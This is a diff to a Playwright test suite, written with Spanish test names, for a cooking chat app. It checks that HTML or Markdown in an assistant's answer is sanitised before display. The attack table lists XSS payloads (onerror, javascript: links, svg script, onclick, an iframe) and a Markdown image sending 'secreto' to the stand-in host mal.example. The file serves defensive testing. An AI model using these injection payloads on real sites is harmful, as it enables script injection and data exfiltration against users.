@@ -80,30 +80,21 @@ test('quien se va a otra pantalla mientras espera no pierde la respuesta', async
 
 test.describe('lo que un asistente no puede poner en pantalla', () => {
   const attacks: [string, string, string][] = [
-    ['una imagen con trampa', '<img src=x onerror="window.hacked=1">', '<img src=x onerror="window.hacked=1">'],
-    [
-      'un enlace de JavaScript',
-      '<a href="javascript:window.hacked=1">pulsa</a>',
-      '<a href="javascript:window.hacked=1">pulsa</a>',
-    ],
-    ['SVG con guion', '<svg><script>window.hacked=1</script></svg>', '<svg><script>window.hacked=1</script></svg>'],
-    [
-      'una negrita con atributo',
-      '<strong onclick="window.hacked=1">hola</strong>',
-      '<strong onclick="window.hacked=1">hola</strong>',
-    ],
+    ['una imagen con trampa', 'Uno <img src=x onerror="window.hacked=1"> dos', 'Uno dos'],
+    ['un enlace de JavaScript', '<a href="javascript:window.hacked=1">pulsa</a>', 'pulsa'],
+    ['SVG con guion', '<svg><script>window.hacked=1</script></svg>fin', 'fin'],
+    ['un guion sin cerrar', 'Va: <script>window.hacked=1', 'Va: window.hacked=1'],
+    ['una negrita con atributo', '<strong onclick="window.hacked=1">hola</strong>', 'hola'],
     ['entidades', '&lt;script&gt;window.hacked=1&lt;/script&gt;', '&lt;script&gt;window.hacked=1&lt;/script&gt;'],
     ['una imagen de Markdown', '![x](https://mal.example/?q=secreto)', '![x](https://mal.example/?q=secreto)'],
     ['un enlace de Markdown', '[pulsa](https://mal.example)', '[pulsa](https://mal.example)'],
     ['negritas sin cerrar', '**a **b** c', '**a b c'],
-    [
-      'un formulario',
-      '<form action=/x><input name=a><button>ok</button></form>',
-      '<form action=/x><input name=a><button>ok</button></form>',
-    ],
-    ['un comentario', '<!-- hola --><style>*{display:none}</style>', '<!-- hola --><style>*{display:none}</style>'],
+    ['un formulario', '<form action=/x><input name=a><button>ok</button></form>', 'ok'],
+    ['un comentario', '<!-- hola --><style>*{display:none}</style>queda', 'queda'],
+    ['basura anidada', '<p><ul><b><i <em>x</p></li><iframe src=//mal.example><math><mi>y', 'y'],
+    ['100 kB de etiquetas', `<b><strong onclick="window.hacked=1">a</strong>`.repeat(2000), 'a'.repeat(2000)],
   ]
-  test('queda como texto, sin etiquetas ni atributos ni peticiones', async ({ cook }) => {
+  test('quedan sus palabras, sin otras etiquetas ni atributos ni peticiones', async ({ cook }) => {
     const outside: string[] = []
     cook.on('request', (request) => {
       if (request.url().includes('mal.example')) outside.push(request.url())
@@ -113,14 +104,13 @@ test.describe('lo que un asistente no puede poner en pantalla', () => {
     for (const [name, , shown] of attacks) {
       await ask(cook, name)
       const exchange = log(cook).getByRole('region', { name })
-      await expect(exchange.getByText(shown, { exact: true }), name).toBeVisible()
+      await expect(exchange.getByText(shown, { exact: true }).first(), name).toBeVisible()
+      // The words stand behind the speaker's name.
       const found = await exchange
-        .locator('p')
-        .evaluateAll((paragraphs) =>
-          paragraphs.flatMap((one) => [...one.querySelectorAll('*')]).map((one) => one.outerHTML.slice(0, 80)),
-        )
+        .locator('[data-voice] + div')
+        .evaluate((words) => [...words.querySelectorAll('*')].map((one) => one.outerHTML.slice(0, 80)))
       expect(
-        found.filter((html) => !/^<(strong|em|br)>/.test(html)),
+        found.filter((html) => !/^<(strong|em|br|p|ul|ol|li)>/.test(html)),
         name,
       ).toEqual([])
     }
@@ -135,5 +125,19 @@ test.describe('lo que un asistente no puede poner en pantalla', () => {
     await expect(log(cook).locator('strong')).toHaveText('Roux')
     await expect(log(cook).locator('em')).toHaveText('harina')
     await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', '60 g', 'Fundir', 'Añadir'])
+  })
+
+  test('las etiquetas que escribe la respuesta se ven como tales, sin atributos', async ({ cook }) => {
+    const html = '<p class="x">Un <strong style="color:red">roux</strong> y <em id="a">ya</em>:<br>así</p>'
+    await answering(
+      cook,
+      says(`${html}\n<ul>\n<li onclick="x()">60 g</li>\n<li>**otros** 60 g</li>\n</ul><h2>Fin</h2>`),
+    )
+    await open(cook)
+    await ask(cook, '¿Qué es un roux?')
+    await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', 'otros 60 g'])
+    expect(await log(cook).locator('[data-voice] + div').innerHTML()).toBe(
+      '<p>Un <strong>roux</strong> y <em>ya</em>:<br>así</p><ul><li>60 g</li><li><strong>otros</strong> 60 g</li></ul><p>Fin</p>',
+    )
   })
 })
